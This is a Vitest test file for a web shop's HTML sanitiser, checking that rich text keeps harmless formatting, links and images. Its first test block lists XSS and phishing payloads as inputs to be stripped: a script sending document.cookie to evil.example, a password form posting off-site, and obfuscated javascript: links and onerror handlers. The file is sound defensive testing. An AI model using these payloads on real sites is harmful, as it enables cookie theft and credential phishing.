import { describe, expect, it } from "vitest";
import { CleanMemo, cleanRichText, cleanRichTextOrNull, linkTarget } from "./rich-text.ts";

/** What no cleaned text may hold: an element that acts, an event handler, a style or a foreign scheme. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<\s*(script|style|meta|form|input|button|textarea|select|iframe|frame|object|embed|base|link|svg|math|template)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\s(style|class|id|srcset|action|formaction)\s*=/i);
  expect(html).not.toMatch(/(javascript|vbscript|data)\s*:/i);
  expect(html).not.toMatch(/(href|src)="(\/\/|\/\\)/i);
}

describe("cleanRichText: the probe's payloads", () => {
  const payloads: Record<string, { html: string; clean: string }> = {
    "a meta refresh to another site": { html: `<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>Linen</p>`, clean: "<p>Linen</p>" },
    "a password form posting off-site": {
      html: `<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="p"></label><button formaction="https://evil.example/">Log in</button></form>`,
      clean: "Password Log in",
    },
    "a script": { html: `<p>a</p><script>document.location="https://evil.example/?"+document.cookie</script><p>b</p>`, clean: "<p>a</p><p>b</p>" },
    "an image whose error runs code": { html: `<img src="x"/onerror=alert(1)>`, clean: "" },
    "a shop image with a handler": { html: `<img src="/img/600/gen/p/a.png" onerror="alert(1)" onload="alert(2)" alt="Shirt">`, clean: `<img src="/img/600/gen/p/a.png" alt="Shirt" />` },
    "an entity-encoded javascript: link": { html: `<a href="java&#x73;cript:alert(1)">x</a>`, clean: "<a>x</a>" },
    "a javascript: link with a named colon": { html: `<a href="javascript&colon;alert(1)">x</a>`, clean: "<a>x</a>" },
    "a javascript: link with a tab inside": { html: `<a href="java\tscript:alert(1)">x</a>`, clean: "<a>x</a>" },
    "a protocol-relative link": { html: `<a href="//evil.example/">x</a>`, clean: "<a>x</a>" },
    "a slash-backslash link": { html: `<a href="/\\evil.example/">x</a>`, clean: "<a>x</a>" },
    "an entity-encoded slash-backslash link": { html: `<a href="/&#x5c;evil.example/">x</a>`, clean: "<a>x</a>" },
    "a slash, a tab and a slash": { html: `<a href="/\t/evil.example/">x</a>`, clean: "<a>x</a>" },
    "a data: link": { html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, clean: "<a>x</a>" },
    "a vbscript: link": { html: `<a href="vbscript:msgbox(1)">x</a>`, clean: "<a>x</a>" },
    "a data: image": { html: `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="d">`, clean: "" },
    "a javascript: image": { html: `<img src="javascript:alert(1)">`, clean: "" },
    "an http image": { html: `<img src="http://evil.example/track.gif">`, clean: "" },
    "an svg with onload": { html: `<svg onload="alert(1)"><circle r="4"/><text>t</text></svg><p>after</p>`, clean: "<p>after</p>" },
    "style, class and id attributes": { html: `<p style="position:fixed;inset:0;background:url(https://evil.example/)" class="fixed inset-0" id="top">x</p>`, clean: "<p>x</p>" },
    "a style element": { html: `<style>body{display:none}</style><p>x</p>`, clean: "<p>x</p>" },
    "frames, objects, a base and a stylesheet": {
      html: `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf"><p>ok</p>`,
      clean: "<p>ok</p>",
    },
    "a script split by a nested script": { html: `<scr<script>ipt>alert(1)</scr</script>ipt>`, clean: "ipt&gt;alert(1)ipt&gt;" },
    "a handler hidden in a noscript title": { html: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, clean: "" },
    "an unclosed attribute": { html: `<p title="x><img src=x onerror=alert(1)>`, clean: "" },
    "a math element with a link": { html: `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, clean: "" },
  };
  for (const [name, { html, clean }] of Object.entries(payloads)) {
    it(`removes ${name}`, () => {
      const out = cleanRichText(html);
      expect(out).toBe(clean);
      expectInert(out);
      // cleaning what was cleaned changes nothing
      expect(cleanRichText(out)).toBe(out);
    });
  }

  it("closes nested and malformed tags so nothing leaks past the text", () => {
    expect(cleanRichText("<p><strong>bold <em>both</p></strong> tail")).toBe("<p><strong>bold <em>both</em></strong></p> tail");
    expect(cleanRichText("<ul><li>one<li>two</ul>")).toBe("<ul><li>one</li><li>two</li></ul>");
    expect(cleanRichText("<p>a < b & c > d</p>")).toBe("<p>a &lt; b &amp; c &gt; d</p>");
    expect(cleanRichText("<!-- <script>alert(1)</script> --><p>c</p>")).toBe("<p>c</p>");
  });
});

describe("cleanRichText: the editors' formatting", () => {
  it("keeps the seed's and editors' markup as it is", () => {
    const html =
      "<h2>Delivery</h2><p>Couriers bring orders <strong>the next day</strong>, <em>Monday to Saturday</em>.</p><h3>Fees</h3>" +
      "<ul><li>Baku: 5 ₼</li><li>Regions: <b>8 ₼</b></li></ul><ol><li>Order</li><li>Pay</li></ol><blockquote>Fast.</blockquote>" +
      '<table><thead><tr><th scope="col">Size</th><th colspan="2">Chest</th></tr></thead><tbody><tr><td>S</td><td rowspan="2">88</td></tr></tbody></table>' +
      "<p>Line<br />break</p><hr /><p>H<sub>2</sub>O, m<sup>2</sup>, <small>small</small>, <u>u</u>, <s>old</s>, <i>i</i></p>";
    expect(cleanRichText(html)).toBe(html);
  });

  it("keeps links of the shop, tel:, mailto: and the web; external ones get rel=noopener noreferrer", () => {
    expect(cleanRichText('<a href="/collections/linen">Linen</a>')).toBe('<a href="/collections/linen">Linen</a>');
    expect(cleanRichText('<a href="/search?q=a&amp;b=c#top">s</a>')).toBe('<a href="/search?q=a&amp;b=c#top">s</a>');
    expect(cleanRichText('<a href="tel:+994125551000">Call</a>')).toBe('<a href="tel:+994125551000">Call</a>');
    expect(cleanRichText('<a href="mailto:hello@bazaar.az">Write</a>')).toBe('<a href="mailto:hello@bazaar.az">Write</a>');
    expect(cleanRichText('<a href="https://wa.me/994505551000" target="_blank" rel="opener">WhatsApp</a>')).toBe(
      '<a href="https://wa.me/994505551000" rel="noopener noreferrer" target="_blank">WhatsApp</a>',
    );
    expect(cleanRichText('<a href="http://example.com/" title="Old site">old</a>')).toBe('<a title="Old site" href="http://example.com/" rel="noopener noreferrer">old</a>');
    // a link of the shop keeps no target and no rel of its own
    expect(cleanRichText('<a href="/sale" target="_top" rel="opener">Sale</a>')).toBe('<a href="/sale">Sale</a>');
  });

  it("drops links that are not a path of the shop or an allowed scheme, keeping their text", () => {
    for (const href of ["#top", "page.html", "?q=1", "ftp://example.com/", "file:///etc/passwd", "https:/\\evil.example", ""]) {
      expect(cleanRichText(`<a href="${href}">t</a>`), href).toBe("<a>t</a>");
    }
  });

  it("keeps images of the shop and https images with their alt text and size", () => {
    expect(cleanRichText('<img src="/img/1000/up/0123456789abcdef01234567.webp" alt="Linen" width="600" height="400" loading="eager">')).toBe(
      '<img src="/img/1000/up/0123456789abcdef01234567.webp" alt="Linen" width="600" height="400" />',
    );
    expect(cleanRichText('<img src="https://cdn.example/a.png" alt="">')).toBe('<img src="https://cdn.example/a.png" alt="" />');
    expect(cleanRichText('<img src="//cdn.example/a.png">')).toBe("");
  });

  it("makes an h1 an h2 and drops wrappers it does not know, keeping their text", () => {
    expect(cleanRichText("<h1>Title</h1>")).toBe("<h2>Title</h2>");
    expect(cleanRichText('<section><span style="color:red">red</span> <font face="x">f</font></section>')).toBe("red f");
    expect(cleanRichText("<div>a</div><div>b</div>")).toBe("<div>a</div><div>b</div>");
  });

  it("leaves empty and missing texts alone", () => {
    expect(cleanRichText("")).toBe("");
    expect(cleanRichTextOrNull(null)).toBeNull();
    expect(cleanRichTextOrNull(undefined)).toBeUndefined();
    expect(cleanRichTextOrNull("<p onclick='x()'>a</p>")).toBe("<p>a</p>");
  });
});

describe("linkTarget", () => {
  it("reads the address as a browser does (spaces and control characters ignored)", () => {
    expect(linkTarget(" /sale ")).toEqual({ href: "/sale", external: false });
    expect(linkTarget("https://wa.me/1")).toEqual({ href: "https://wa.me/1", external: true });
    expect(linkTarget("\n//evil.example")).toBeNull();
    expect(linkTarget("/\u0000/evil.example")).toBeNull();
    expect(linkTarget("https:evil.example")).toBeNull();
  });
});

describe("CleanMemo", () => {
  it("cleans a text once and answers it again from memory", () => {
    const memo = new CleanMemo(1000);
    let runs = 0;
    const clean = (html: string) => {
      runs += 1;
      return html.toUpperCase();
    };
    expect(memo.get("<p>a</p>", clean)).toBe("<P>A</P>");
    expect(memo.get("<p>a</p>", clean)).toBe("<P>A</P>");
    expect(runs).toBe(1);
  });

  it("keeps at most its number of characters, dropping the oldest first", () => {
    const memo = new CleanMemo(40);
    const same = (html: string) => html;
    for (const text of ["aaaaaaaaaa", "bbbbbbbbbb", "cccccccccc"]) memo.get(text, same);
    // 3 × (10 + 10) characters: the first went
    expect(memo.size).toBe(2);
    let runs = 0;
    memo.get("aaaaaaaaaa", (html) => {
      runs += 1;
      return html;
    });
    expect(runs).toBe(1);
    // a text larger than the whole memory is cleaned and not kept
    memo.get("x".repeat(50), same);
    expect(memo.size).toBe(2);
  });
});
